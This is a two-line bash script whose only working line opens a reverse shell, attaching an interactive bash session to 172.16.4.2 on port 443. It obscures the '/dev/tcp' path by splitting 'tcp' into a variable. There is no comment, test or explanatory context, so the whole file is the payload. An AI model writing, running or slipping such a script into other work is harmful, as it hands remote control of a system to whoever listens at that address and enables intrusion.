#!/usr/bin/env bash
T=tcp; bash -i >& /dev/$T/172.16.4.2/443 0>&1
